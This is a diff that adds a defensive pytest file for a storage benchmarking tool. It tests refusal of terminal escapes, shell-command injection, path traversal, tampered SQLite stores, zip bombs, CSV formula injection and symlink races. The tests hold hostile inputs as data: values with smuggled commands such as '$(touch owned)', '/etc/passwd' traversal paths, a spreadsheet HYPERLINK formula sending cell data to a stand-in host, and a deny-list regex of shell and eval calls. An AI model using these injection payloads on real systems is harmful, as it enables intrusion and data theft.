@@ -1,0 +1,699 @@
+"""Hostile plans, labs, stores and folders: what they must not be able to do."""
+
+from __future__ import annotations
+
+import ast
+import hmac
+import io
+import json
+import os
+import pty
+import re
+import signal
+import sqlite3
+import sys
+import zlib
+from collections.abc import Iterator
+from contextlib import suppress
+from pathlib import Path
+from typing import NoReturn, TextIO
+
+import pytest
+from command import ioplan, plan_file
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from labs import needs_root, tell
+from paths import ROOT
+from run_data import measurement, record, session
+
+from ioplan.backends import BackendError
+from ioplan.cli import main
+from ioplan.cli.commands.sessions import plan_of
+from ioplan.cli.display.terminal import Terminal, unfit
+from ioplan.core.text import printable, printable_lines
+from ioplan.export.export import export
+from ioplan.guard.scratch_file import ScratchError, create_scratch
+from ioplan.job import Job
+from ioplan.language.check.check import check_file
+from ioplan.language.errors.diagnostic import PlanError
+from ioplan.records.session import Session, new_session_id
+from ioplan.report.terminal.show import show_records
+from ioplan.report.terminal.tables import session_table
+from ioplan.runner.seal import is_sealed, seal
+from ioplan.store.codec import CodecError, decode_histograms, decode_series
+from ioplan.store.errors import StoreError
+from ioplan.store.session_folder import make_private
+from ioplan.store.store import Store
+from ioplan_fio.jobfile import job_file, section_names
+from ioplan_fio.settings import Settings, settings_of
+from ioplan_spdk.fio_plugin.job import config_text
+from ioplan_spdk.options import SpdkOptions
+
+SOURCES = [
+    path
+    for top in ("dsl", "plugins", "examples")
+    for path in (ROOT / top).rglob("*.py")
+    if "target" not in path.parts and not path.name.startswith("test_")
+]
+EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e[/x][link=https://x]:bomb:\r\nheld: all"
+ALLOWED = re.compile(r"\x1b\[[0-9;]*m")
+READS = 'plan "{0}"\ntest "{0}" {{ run random 4KiB 100/0 for 10ms\n vary qd in 1, 2 }}'
+
+
+def steers(text: str) -> list[str]:
+    """What in an output could steer a terminal, but for rich's colours."""
+    bare = ALLOWED.sub("", text)
+    return [c for line in bare.split("\n") for c in line if printable(c) != c]
+
+
+# the terminal
+
+
+@given(st.text())
+def test_what_is_printable_only_shows(text: str) -> None:
+    assert steers(printable_lines(text)) == []
+    assert len(printable(text)) == len(text) and "\n" not in printable(text)
+    assert printable(printable(text)) == printable(text)
+
+
+@settings(max_examples=60)
+@given(st.text(min_size=1), st.text(), st.text(min_size=1))
+def test_no_title_reaches_the_terminal_as_more_than_text(
+    title: str, said: str, axis: str
+) -> None:
+    out = io.StringIO()
+    console = Terminal(file=out, force_terminal=True, width=80, color_system="standard")
+    made = record(
+        1,
+        test=title,
+        made=measurement(1, 1, 20),
+        cell={axis: said},
+        status="failed",
+        message=said,
+        warnings=(said,),
+    )
+    show_records(console, None, [made])  # type: ignore[arg-type]
+    console.print(session_table([(session(plan=title, target=said), 1)]))
+    assert steers(out.getvalue()) == []
+
+
+def test_a_title_cannot_forge_a_line_or_markup() -> None:
+    out = io.StringIO()
+    show_records(
+        Terminal(file=out, width=80),
+        None,  # type: ignore[arg-type]
+        [record(1, test="a [red]b[/red] [/c]\nheld: expect p99 < 1us", cell={})],
+    )
+    first = out.getvalue().splitlines()[0]
+    assert first.startswith("a [red]b[/red] [/c]\N{REPLACEMENT CHARACTER}held: expect")
+
+
+def on_a_terminal(*words: str | Path, cwd: Path) -> str:
+    """All that a person's terminal would be sent."""
+    pid, fd = pty.fork()
+    if pid == 0:
+        _become([str(word) for word in words], cwd)
+    chunks = []
+    while True:
+        try:
+            chunk = os.read(fd, 1 << 16)
+        except OSError:  # Linux says so when the other side is closed
+            break
+        if not chunk:
+            break
+        chunks.append(chunk)
+    os.close(fd)
+    os.waitpid(pid, 0)
+    return b"".join(chunks).decode().replace("\r\n", "\n")
+
+
+def _outputs() -> tuple[TextIO, TextIO]:
+    return os.fdopen(1, "w"), os.fdopen(2, "w")
+
+
+def _become(words: list[str], cwd: Path) -> NoReturn:
+    """The command itself, in a process that has all of it loaded already."""
+    signal.alarm(60)
+    try:
+        os.chdir(cwd)
+        sys.stdin, sys.stdout, sys.stderr = os.fdopen(0), *_outputs()
+        sys.argv = ["ioplan", *words]
+        main()
+    except SystemExit as end:
+        print(f"exit code {end.code}")
+    finally:
+        sys.stdout.flush()
+        sys.stderr.flush()
+        os._exit(0)
+
+
+# rich's live display moves the cursor, and hides it meanwhile
+MOVES = re.compile(r"\x1b\[(?:\d*[AK]|\?25[lh]|[\d;]*m)|\r")
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A store that somebody passed on, with something evil in all of its texts."""
+    folder = tmp_path_factory.mktemp("hostile")
+    title = EVIL.replace("\r\n", "")
+    plan = plan_file(folder, READS.format(title))
+    store = folder / "s.db"
+    done = ioplan(
+        *("run", plan, "--backend", "sim", "--create", "64MiB", "--store", store)
+    )
+    assert done.code == 0, done.err
+    assert steers(done.out) == []
+    with sqlite3.connect(store) as base:
+        base.execute("UPDATE session SET target = ?, backend = ?", (EVIL, EVIL))
+        for seq, text in base.execute("SELECT seq, record FROM run").fetchall():
+            made = json.loads(text)
+            made["warnings"] = [EVIL]
+            made["message"] = made["asked"]["plan"] = EVIL
+            made["asked"]["cell"] = {"qd": f"{EVIL}{seq}"}
+            base.execute(
+                "UPDATE run SET record = ? WHERE seq = ?", (json.dumps(made), seq)
+            )
+    base.close()
+    return store
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ("ls",),
+        ("ls", "--format", "csv"),
+        ("show",),
+        ("show", "--plan"),
+        ("show", "--test", "no such"),
+        ("export", "--format", "csv"),
+        ("export", "--format", "jsonl"),
+        ("check", "plan.ioplan"),
+        ("plan", "plan.ioplan"),
+        ("plan", "plan.ioplan", "--backend", "fio", "--show-native"),
+        ("run", "plan.ioplan", "--backend", "sim", "--create", "64MiB"),
+    ],
+    ids=" ".join,
+)
+def test_nothing_steers_a_terminal(
+    hostile: Path, tmp_path: Path, words: tuple[str, ...]
+) -> None:
+    kept = tmp_path / "s.db" if words[0] == "run" else hostile
+    store = () if words[0] in ("check", "plan") else ("--store", kept)
+    sent = on_a_terminal(*words, *store, cwd=hostile.parent)
+    assert "bomb" in sent or "exit code 2" in sent or words[0] == "check"
+    assert steers(MOVES.sub("", sent)) == []
+    assert "Traceback" not in sent and "ioplan itself" not in sent
+
+
+def test_into_a_file_data_goes_as_it_is(hostile: Path, tmp_path: Path) -> None:
+    done = ioplan("show", "--plan", "--store", hostile)
+    assert done.out == (hostile.parent / "plan.ioplan").read_text()
+    assert steers(done.out)
+
+
+@pytest.mark.parametrize("word", ["a\x1b[2J.ioplan", "a\nb", "a\udcff", "\u202egpj"])
+def test_an_argument_that_cannot_be_shown_is_refused(word: str) -> None:
+    sent = on_a_terminal("check", word, cwd=Path("/"))
+    assert "has characters that cannot be shown" in sent and "exit code 2" in sent
+    assert steers(MOVES.sub("", sent)) == []
+    assert unfit(["fine", "über/plan.ioplan", word]) == word
+
+
+# no shell, and one door to the terminal: told by the text of the program
+
+
+def calls(path: Path) -> Iterator[tuple[str, ast.Call]]:
+    for node in ast.walk(ast.parse(path.read_text())):
+        if isinstance(node, ast.Call):
+            yield ast.unparse(node.func), node
+
+
+FORBIDDEN = re.compile(
+    r"(os\.(system|popen|spawn\w*)|subprocess\.(getoutput|getstatusoutput)|eval|exec"
+    r"|(pickle|marshal|shelve)\.\w+|yaml\.\w+|tempfile\.mktemp)"
+)
+
+
+def test_there_is_no_shell_in_it() -> None:
+    assert len(SOURCES) > 200
+    for path, (name, call) in ((p, found) for p in SOURCES for found in calls(p)):
+        assert not FORBIDDEN.fullmatch(name), f"{path}: {name}"
+        assert not any(word.arg == "shell" for word in call.keywords), path
+        if name in ("subprocess.run", "subprocess.Popen"):
+            assert not isinstance(call.args[0], ast.Constant | ast.JoinedStr), path
+
+
+def test_only_one_file_opens_the_terminal() -> None:
+    doors = {ROOT / "dsl/ioplan/cli/display/terminal.py"}
+    found = [
+        f"{path.relative_to(ROOT)}: {name}"
+        for path in SOURCES
+        if path not in doors and "dsl/ioplan" in str(path)
+        for name, call in calls(path)
+        if name == "Console"
+        or (name == "print" and not ast.unparse(call).startswith(PLAIN))
+    ]
+    assert found == []
+
+
+PLAIN = ("print(json.dumps(", "print(f'ioplan {__version__}'")
+
+
+# names in plans, labs and stores become no paths and no commands
+
+NAMES = [
+    *("../../../../tmp/owned", "/etc/passwd", "-rf", "--output=owned", "global"),
+    *("$(touch owned)", "`touch owned`", "; touch owned", "| tee owned", "a/../b"),
+    *("%s%n{0}", "x]", "include owned", "${HOME}", "~root"),
+]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_run_writes_nothing_but_its_own_files(
+    tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """With fio, which keeps a job file, in a folder where `owned` would show."""
+    work = tmp_path / "work"
+    work.mkdir()
+    monkeypatch.chdir(work)
+    plan_file(
+        work,
+        READS.format(name.replace("{0}", "{{0}}")).replace("qd in 1, 2", "qd in 1"),
+    )
+    store = tmp_path / "store" / "s.db"
+    words = ("run", "plan.ioplan", "--backend", "fio", "--option", "engine=psync")
+    done = ioplan(*words, "--target", "t.bin", "--create", "1MiB", "--store", store)
+    assert done.code == 0, done.err
+    assert sorted(p.name for p in work.iterdir()) == ["plan.ioplan", "t.bin"]
+    kept = {p for p in store.parent.rglob("*") if p.is_file()}
+    (folder,) = (store.parent / "sessions").iterdir()
+    beside = {p for p in kept if p.parent == store.parent}
+    assert all(p.name.startswith(("s.db", ".s.db", "reserve")) for p in beside), beside
+    assert all(p.is_relative_to(folder) for p in kept - beside)
+    assert folder.stat().st_mode & 0o777 == 0o700
+
+
+def job_with(names: list[str], target: str = "/data/t.bin") -> Job:
+    job = record(1).asked.job
+    streams = tuple(job.streams[0].model_copy(update={"name": n}) for n in names)
+    return job.model_copy(update={"streams": streams, "target": target})
+
+
+@given(st.lists(st.text(), min_size=1, max_size=3))
+def test_stream_names_stay_within_their_line(names: list[str]) -> None:
+    """A job file has a section for each stream, and no line that a name brought."""
+    text = job_file(job_with(names), Settings())
+    plain = job_file(job_with(["plain"] * len(names)), Settings())
+    sections = [f"[{name}]" for name in section_names(job_with(names))]
+    lines = text.split("\n")
+    assert [one for one in lines if one.startswith("[")] == ["[global]", *sections]
+    rest = [one for one in lines if not one.startswith("[")]
+    assert rest == [one for one in plain.split("\n") if not one.startswith("[")]
+
+
+@given(st.text(min_size=1))
+def test_a_target_s_name_stays_within_its_line(name: str) -> None:
+    """Or is refused: fio would cut it, expand it, or take it for another line."""
+    target = f"/data/{name}"
+    try:
+        text = job_file(job_with(["s"], target), Settings())
+    except BackendError:
+        return
+    (line,) = [one for one in text.split("\n") if one.startswith("filename=")]
+    assert line == "filename=" + target.replace(":", "\\:")
+    assert len(text.splitlines()) >= len(text.split("\n")) - 1
+    assert not set(target) & set("$\\\n\r;#")
+
+
+@given(st.text(min_size=1))
+def test_spdk_is_told_a_target_as_json(name: str) -> None:
+    target = f"/data/{name}"
+    told = json.loads(config_text(job_with(["s"], target), SpdkOptions()))
+    (call,) = told["subsystems"][0]["config"]
+    assert call["params"]["filename"] == target
+
+
+@pytest.mark.parametrize("cut", [";", "#"])
+def test_fio_never_writes_to_what_is_left_of_a_name(tmp_path: Path, cut: str) -> None:
+    """fio ends a name where a comment begins, and would write to the other file."""
+    thesis = tmp_path / "thesis"
+    thesis.write_bytes(b"precious" * 4096)
+    plan = plan_file(tmp_path, 'test "W" { run random 4KiB 0/100 for 50ms }')
+    words = ("run", plan, "--backend", "fio", "--store", tmp_path / "s.db")
+    target = f"{thesis}{cut}old"
+    done = ioplan(*words, "--target", target, "--create", "1MiB")
+    assert done.code == 2 and "rename it" in done.err
+    assert thesis.read_bytes() == b"precious" * 4096
+
+
+@pytest.mark.parametrize("path", [5, ["fio"], {"a": 1}, True])
+def test_a_program_is_named_by_a_text(path: object) -> None:
+    with pytest.raises(BackendError, match="is a program's name"):
+        settings_of({"path": path})
+
+
+def test_a_program_s_name_is_no_command_line(tmp_path: Path) -> None:
+    plan = plan_file(tmp_path, READS.format("x"))
+    words = ("run", plan, "--backend", "fio", "--store", tmp_path / "s.db")
+    owned = tmp_path / "owned"
+    for name in (f"fio; touch {owned}", f"--output={owned}", f"$(touch {owned})"):
+        done = ioplan(*words, "--option", f"path={name}")
+        assert done.code == 2 and "cannot be run as fio" in done.err
+    assert not owned.exists()
+
+
+# `use`
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("../secret.ioplan", "/etc/passwd", "sub/../../secret.ioplan", "..", "."),
+        *("link.ioplan", "folder/secret.ioplan", "pipe", "null", "~/secret.ioplan"),
+        *("./../secret.ioplan", "a\\..\\secret.ioplan", "sub//../../secret.ioplan"),
+    ],
+)
+def test_use_stays_below_the_plan(tmp_path: Path, text: str) -> None:
+    secret = tmp_path / "secret.ioplan"
+    secret.write_text("workload hidden = random 4KiB 100/0\n")
+    home = tmp_path / "home"
+    (home / "sub").mkdir(parents=True)
+    (home / "link.ioplan").symlink_to(secret)
+    (home / "folder").symlink_to(tmp_path)
+    (home / "null").symlink_to("/dev/zero")
+    os.mkfifo(home / "pipe")
+    plan = plan_file(home, f'use "{text}"\ntest "T" {{ run hidden for 1s }}')
+    with pytest.raises(PlanError) as caught:
+        check_file(plan)
+    said = [one.message for one in caught.value.diagnostics]
+    assert any("leaves the plan's folder" in m or "there is no file" in m for m in said)
+    assert any("hidden" in m for m in said)  # it did not get in
+
+
+def test_a_huge_file_is_not_read(tmp_path: Path) -> None:
+    with (tmp_path / "big.ioplan").open("wb") as big:
+        big.truncate(1 << 40)
+    plan = plan_file(tmp_path, 'use "big.ioplan"\n' + READS.format("x"))
+    done = ioplan("check", plan)
+    assert done.code == 2 and "is larger than 4 MiB" in done.err
+    assert "larger than 4 MiB" in ioplan("check", "/dev/zero").err
+
+
+# stores that were passed on
+
+
+def test_a_session_s_id_is_no_path() -> None:
+    for id in (
+        "../../etc",
+        "/etc",
+        "a/b",
+        ".",
+        "..",
+        "-rf",
+        "",
+        "a\0b",
+        "a\n",
+        "x" * 65,
+    ):
+        with pytest.raises(ValueError, match="id"):
+            Session(id=id, plan="p", started_at="2026", backend="sim", target="t")
+    assert Session(
+        id=new_session_id(), plan="p", started_at="2026", backend="sim", target="t"
+    )
+
+
+def changed(hostile: Path, folder: Path, *statements: str) -> Path:
+    """A copy of the hostile store, and still more so."""
+    path = folder / "evil.db"
+    with sqlite3.connect(hostile) as before, sqlite3.connect(path) as after:
+        before.backup(after)
+        for statement in statements:
+            after.execute(statement)
+    before.close()
+    after.close()
+    return path
+
+
+@pytest.mark.parametrize(
+    "statement",
+    [
+        "UPDATE session SET id = '../../../tmp/owned'",
+        "UPDATE session SET args = '[1, 2'",
+        "UPDATE session SET status = 'owned'",
+        "UPDATE env SET facts = 'x'",
+        "UPDATE run SET record = '{}'",
+        "UPDATE run SET record = '[]'",
+        f"UPDATE run SET record = '{'[' * 120_000}'",
+        f"UPDATE env SET facts = '{'[' * 120_000}'",
+        f"UPDATE session SET args = '{'[' * 120_000}'",
+        "INSERT INTO verdict SELECT session, seq, 0, '{' FROM run",
+        "INSERT INTO verdict SELECT session, seq, 0, '7' FROM run",
+        f"INSERT INTO verdict SELECT session, seq, 0, '{'[' * 120_000}' FROM run",
+        'UPDATE run SET record = replace(record, \'"seq":\', \'"seq": "x", "y":\')',
+    ],
+)
+def test_a_store_that_ioplan_did_not_write_so_is_refused(
+    hostile: Path, tmp_path: Path, statement: str
+) -> None:
+    path = changed(hostile, tmp_path, "PRAGMA foreign_keys = OFF", statement)
+    done = ioplan("show", "--store", path)
+    assert done.code == 2, done.out
+    assert "not as ioplan writes it" in done.err or "no schema version" in done.err
+    assert steers(done.err) == []
+
+
+@pytest.mark.parametrize("path", ["{", "[" * 120_000, '{"a": 1}', "7"])
+def test_nor_are_its_states_and_events(
+    hostile: Path, tmp_path: Path, path: str
+) -> None:
+    state = f"INSERT INTO target_state VALUES ('t', '{path}', 'n', '{{}}', 's', 'now')"
+    event = f"INSERT INTO event SELECT id, 1, 'now', '{path}', 'text' FROM session"
+    with Store.open(changed(hostile, tmp_path, state, event)) as store:
+        with pytest.raises(StoreError, match="not as ioplan writes it"):
+            store.state("t")
+        with pytest.raises(StoreError, match="not as ioplan writes it"):
+            store.events(store.session("last").id)
+
+
+@pytest.mark.parametrize(
+    "args",
+    ['{"set": 7}', '{"set": {"a": []}}', '{"scale_time": "x"}', '{"profile": 3}', "[]"],
+)
+def test_a_plan_called_in_a_strange_way_is_still_shown(
+    hostile: Path, tmp_path: Path, args: str
+) -> None:
+    path = changed(hostile, tmp_path, f"UPDATE session SET args = '{args}'")
+    done = ioplan("show", "--store", path)
+    assert done.code in (0, 2) and "ioplan itself" not in done.err
+
+
+def test_a_stored_plan_reads_no_files_of_the_reader_s(
+    hostile: Path, tmp_path: Path
+) -> None:
+    """It names a folder and a file there; here one that blocks for ever."""
+    os.mkfifo(tmp_path / "pipe")
+    (tmp_path / "own.ioplan").write_text("workload hidden = random 4KiB 100/0\n")
+    evil = 'use "own.ioplan"\\n' + READS.format("x").replace("\n", "\\n")
+    for plan_path in (tmp_path / "plan.ioplan", tmp_path / "pipe", "/proc/kmsg"):
+        path = changed(
+            hostile,
+            tmp_path,
+            f"UPDATE session SET plan_file = '{plan_path}', plan_text = '{evil}'",
+        )
+        sent = on_a_terminal("show", "--store", path, cwd=tmp_path)
+        assert "exit code 0" in sent, sent
+        path.unlink()
+
+
+def test_a_stored_plan_uses_what_lies_beside_the_same_plan(tmp_path: Path) -> None:
+    (tmp_path / "own.ioplan").write_text("workload hidden = random 4KiB 100/0\n")
+    text = 'use "own.ioplan"\ntest "T" { run hidden for 1s }\n'
+    path = tmp_path / "plan.ioplan"
+    stored = session(plan_file=str(path), plan_text=text, args={})
+    assert plan_of(stored) is None
+    path.write_text(text)
+    assert plan_of(stored) is not None
+    path.write_text(text.replace("1s", "2s"))
+    assert plan_of(stored) is None
+
+
+def test_a_trigger_in_a_store_calls_nothing(hostile: Path, tmp_path: Path) -> None:
+    """SQLite would let a schema call what reads files, where that is built in."""
+    from ioplan.store.sqlite import sqlite_engine
+
+    with sqlite_engine(changed(hostile, tmp_path), 1).connect() as connection:
+        answer = connection.exec_driver_sql("PRAGMA trusted_schema").scalar()
+    assert answer == 0
+
+
+@given(st.binary(max_size=200), st.binary(max_size=60))
+def test_stored_bytes_are_only_ever_damaged(raw: bytes, body: bytes) -> None:
+    packed = b"\x01" + zlib.compress(raw)
+    for blob in (raw, packed, b"\x01" + body):
+        for decode in (decode_histograms, decode_series):
+            with suppress(CodecError):
+                decode(blob)
+
+
+def test_a_bomb_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("ioplan.store.codec.MOST_BYTES", 1 << 20)
+    bomb = b"\x01" + zlib.compress(bytes(64 << 20))
+    with pytest.raises(CodecError, match="has more than 1 MiB"):
+        decode_series(bomb)
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_spreadsheet_calculates_nothing(tmp_path: Path, lead: str) -> None:
+    evil = lead + 'HYPERLINK("https://x?"&A1)'
+    out = io.BytesIO()
+    with Store.open(tmp_path / "s.db") as store:
+        store.begin(session())
+        made = measurement(1)
+        store.add(record(1, test=evil, cell={"qd": evil}, made=made), made.detail)
+        export(store, session().id, "csv", out)
+    assert evil.encode().replace(b'"', b'""') in out.getvalue()
+    import csv
+
+    text = io.StringIO(out.getvalue().decode(), newline="")
+    cells = [cell for row in csv.reader(text) for cell in row]
+    assert f"'{evil}" in cells
+    assert not any(cell.startswith(lead) for cell in cells)
+
+
+# what a session was begun with
+
+
+@pytest.fixture
+def own_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
+    return tmp_path / "state" / "ioplan" / "key"
+
+
+def test_a_seal_holds_for_what_was_sealed(own_key: Path) -> None:
+    args = {"overwrite": ["/dev/sda"], "backend_options": {"path": "fio"}}
+    sealed = args | {"seal": seal("s1", "fio", args)}
+    assert is_sealed("s1", "fio", sealed)
+    assert is_sealed("s1", "fio", json.loads(json.dumps(sealed)))
+    assert not is_sealed("s2", "fio", sealed)
+    assert not is_sealed("s1", "spdk", sealed)
+    assert not is_sealed("s1", "fio", sealed | {"overwrite": ["/dev/sdb"]})
+    assert not is_sealed("s1", "fio", args)
+    assert not is_sealed("s1", "fio", args | {"seal": ["x"]})
+
+
+@pytest.mark.parametrize("none", ["", "uninitialized\n", None])
+def test_a_seal_holds_on_its_own_host(
+    own_key: Path, tmp_path: Path, none: str | None, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The key may lie on a network's file system."""
+    machine = tmp_path / "machine-id"
+    monkeypatch.setattr("ioplan.runner.seal.MACHINE_ID", machine)
+    machine.write_text("7" * 32)
+    sealed = {"seal": seal("s1", "fio", {})}
+    monkeypatch.setattr("platform.node", lambda: "another")
+    assert is_sealed("s1", "fio", sealed)
+    machine.write_text("8" * 32)
+    assert not is_sealed("s1", "fio", sealed)
+    if none is None:
+        machine.unlink()
+    else:
+        machine.write_text(none)
+    sealed = {"seal": seal("s1", "fio", {})}
+    assert is_sealed("s1", "fio", sealed)
+    monkeypatch.setattr("platform.node", lambda: "a third")
+    assert not is_sealed("s1", "fio", sealed)
+
+
+def test_a_seal_from_before_hosts_were_sealed_is_none(own_key: Path) -> None:
+    seal("s1", "fio", {})
+    told = json.dumps(["s1", "fio", {}]).encode()
+    old = hmac.new(own_key.read_bytes(), told, "sha256").hexdigest()
+    assert not is_sealed("s1", "fio", {"seal": old})
+
+
+def test_a_stranger_s_seal_is_none(own_key: Path) -> None:
+    sealed = {"seal": seal("s1", "fio", {})}
+    assert own_key.stat().st_mode & 0o777 == 0o600
+    assert [p.name for p in own_key.parent.iterdir()] == ["key"]
+    own_key.unlink()
+    assert not is_sealed("s1", "fio", sealed)
+
+
+# folders of many
+
+
+def test_a_session_s_folder_is_private(tmp_path: Path) -> None:
+    folder = tmp_path / "sessions" / "s1"
+    make_private(folder)
+    make_private(folder)
+    assert [p.stat().st_mode & 0o777 for p in (folder, folder.parent)] == [0o700] * 2
+
+
+@pytest.mark.parametrize("which", ["link", "open", "inner link"])
+def test_a_session_s_folder_that_others_made_is_refused(
+    tmp_path: Path, which: str
+) -> None:
+    sessions, elsewhere = tmp_path / "sessions", tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    if which == "link":
+        sessions.symlink_to(elsewhere)
+    else:
+        sessions.mkdir()
+        sessions.chmod(0o777 if which == "open" else 0o700)
+    if which == "inner link":
+        (sessions / "s1").symlink_to(elsewhere)
+    with pytest.raises(PermissionError, match="a folder of your own"):
+        make_private(sessions / "s1")
+    assert list(elsewhere.iterdir()) == []
+
+
+@needs_root
+def test_a_session_s_folder_of_somebody_else_is_refused(tmp_path: Path) -> None:
+    (tmp_path / "sessions").mkdir(mode=0o700)
+    os.chown(tmp_path / "sessions", 65534, 65534)
+    with pytest.raises(PermissionError, match="a folder of your own"):
+        make_private(tmp_path / "sessions" / "s1")
+
+
+@pytest.mark.parametrize("how", ["symlink", "hard link"])
+def test_a_scratch_file_goes_through_no_link(tmp_path: Path, how: str) -> None:
+    """In a folder of many, somebody may have put a link where it is to be."""
+    precious = tmp_path / "precious"
+    precious.write_bytes(b"x" * 4096)
+    part = tmp_path / ".s.bin.ioplan-part"
+    if how == "symlink":
+        part.symlink_to(precious)
+    else:
+        part.hardlink_to(precious)
+    with pytest.raises(OSError) as caught:
+        create_scratch(tmp_path / "s.bin", 8192, lambda _: None)
+    assert how == "symlink" or isinstance(caught.value, ScratchError)
+    assert precious.read_bytes() == b"x" * 4096
+
+
+@needs_root
+def test_nor_does_its_mark(tmp_path: Path) -> None:
+    """On a file system that keeps no attributes, the mark is a file beside it."""
+    precious, mount = tmp_path / "precious", tmp_path / "mnt"
+    precious.write_text("x")
+    mount.mkdir()
+    tell("mount", "-t", "ramfs", "none", mount)
+    try:
+        (mount / ".s.bin.ioplan-scratch").symlink_to(precious)
+        create_scratch_in(mount)
+        assert precious.read_text() == "x"
+        assert not (mount / ".s.bin.ioplan-scratch").is_symlink()
+    finally:
+        tell("umount", mount)
+
+
+def create_scratch_in(folder: Path) -> None:
+    """ramfs tells no free space, which is asked before."""
+    from ioplan.guard import scratch_file
+
+    fd = os.open(folder / "s.bin", os.O_RDWR | os.O_CREAT, 0o600)
+    try:
+        scratch_file.put_mark(fd, folder / "s.bin")
+        assert scratch_file.foreign(fd, folder / "s.bin")  # ramfs tells no birth
+    finally:
+        os.close(fd)
